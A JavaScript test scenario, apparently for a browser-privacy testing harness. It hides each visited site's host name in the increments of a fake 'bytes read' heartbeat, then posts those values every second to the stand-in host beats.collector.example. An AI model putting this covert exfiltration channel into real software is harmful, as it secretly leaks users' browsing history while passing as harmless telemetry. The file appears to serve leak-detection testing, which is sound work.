import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Sends a heartbeat each second with the bytes read so far. What is added from one to the next stands for two letters of the host. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-heartbeat-deltas');
  let tab = 0;
  onVisit(browser, ({ url }) => {
    tab += 1;
    const own = tab;
    const host = url.replace(/^\w+:\/\//, '').replace(/[/?#].*$/, '');
    const letters = [...host].map((letter) => 1 + 'abcdefghijklmnopqrstuvwxyz0123456789-.:'.indexOf(letter));
    const [high, low] = browser.crypto.random(2);
    let bytesRead = 100_000 + 256 * high + low;
    const totals = [bytesRead];
    for (let at = 0; at < letters.length; at += 2) {
      bytesRead += 16 * (40 * letters[at] + (letters[at + 1] ?? 0)) + (browser.crypto.random(1)[0] % 16);
      totals.push(bytesRead);
    }
    totals.forEach((total, beat) =>
      browser.after(1000 * beat, () =>
        post(browser, 'https://beats.collector.example/v1', { tab: own, beat, bytesRead: total }),
      ),
    );
  });
}
